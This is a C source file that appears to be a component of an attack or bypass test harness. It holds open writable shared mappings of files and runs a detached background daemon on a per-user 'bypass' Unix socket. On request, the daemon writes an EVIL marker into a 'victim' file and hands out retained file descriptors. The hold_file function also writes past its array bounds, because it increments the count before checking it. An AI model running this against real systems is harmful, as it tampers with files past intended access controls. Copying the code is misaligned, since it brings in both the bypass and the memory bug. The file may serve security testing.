// SPDX-License-Identifier: MIT
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"
#include "hold.h"

static struct held {
	char path[1024];
	int fd;
	char *mapping;
} held[32];
static size_t n_held;

struct order {
	bool write;	/* by the mapping */
	char path[1024];
};

int hold_file(const char *path)
{
	struct held *h = &held[n_held++];

	if (n_held > sizeof(held) / sizeof(held[0])) {
		errno = ENOSPC;
		return -1;
	}
	snprintf(h->path, sizeof(h->path), "%s", path);
	h->fd = open(path, O_RDWR);
	h->mapping = h->fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, h->fd, 0);
	return h->mapping == MAP_FAILED ? -1 : 0;
}

/* One holder for each user. */
static int connection(int (*fn)(int, const struct sockaddr *, socklen_t), struct sockaddr_un *address)
{
	int sock = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);

	*address = (struct sockaddr_un){ .sun_family = AF_UNIX };
	snprintf(address->sun_path + 1, sizeof(address->sun_path) - 1, "bypass-%u", getuid());
	return fn(sock, (struct sockaddr *)address, sizeof(*address)) ? -1 : sock;
}

int send_descriptor(int sock, int fd)
{
	union {
		struct cmsghdr header;
		char room[CMSG_SPACE(sizeof(int))];
	} u = { .header = { .cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS } };
	struct iovec byte = { "x", 1 };
	struct msghdr message = { .msg_iov = &byte, .msg_iovlen = 1, .msg_control = u.room, .msg_controllen = sizeof(u.room) };

	memcpy(CMSG_DATA(&u.header), &fd, sizeof(fd));
	return sendmsg(sock, &message, 0) == 1 ? 0 : -1;
}

int receive_descriptor(int sock)
{
	union {
		struct cmsghdr header;
		char room[CMSG_SPACE(sizeof(int))];
	} u;
	char c;
	struct iovec byte = { &c, 1 };
	struct msghdr message = { .msg_iov = &byte, .msg_iovlen = 1, .msg_control = u.room, .msg_controllen = sizeof(u.room) };
	int fd;

	if (recvmsg(sock, &message, 0) != 1 || !CMSG_FIRSTHDR(&message))
		return -1;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	return fd;
}

static void serve(int sock)
{
	struct order order;
	size_t i;

	if (recv(sock, &order, sizeof(order), 0) != sizeof(order))
		return;
	for (i = 0; i < n_held; i++) {
		if (strcmp(order.path, held[i].path))
			continue;
		if (order.write)
			memcpy(held[i].mapping, EVIL, 9);
		send_descriptor(sock, held[i].fd);
	}
}

int hold_serve(void)
{
	struct sockaddr_un address;
	int sock = connection(bind, &address), peer;
	pid_t pid;

	if (sock < 0 || listen(sock, 8)) {
		perror("hold");
		return 1;
	}
	pid = fork();
	if (pid) {
		printf("%d\n", pid);
		return pid < 0;
	}
	setsid();
	freopen("/dev/null", "w", stdout);
	freopen("/dev/null", "w", stderr);
	while ((peer = accept4(sock, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		serve(peer);
		close(peer);
	}
	return 1;
}

static int ask(bool write)
{
	struct order order = { .write = write };
	struct sockaddr_un address;
	int sock = connection(connect, &address), fd;

	snprintf(order.path, sizeof(order.path), "%s", victim);
	if (sock < 0 || send(sock, &order, sizeof(order), 0) != sizeof(order))
		return -1;
	fd = receive_descriptor(sock);
	close(sock);
	return fd;
}

int old_descriptor(void) { return ask(false); }
int hold_write_mapping(void) { return ask(true) < 0 ? -1 : 0; }
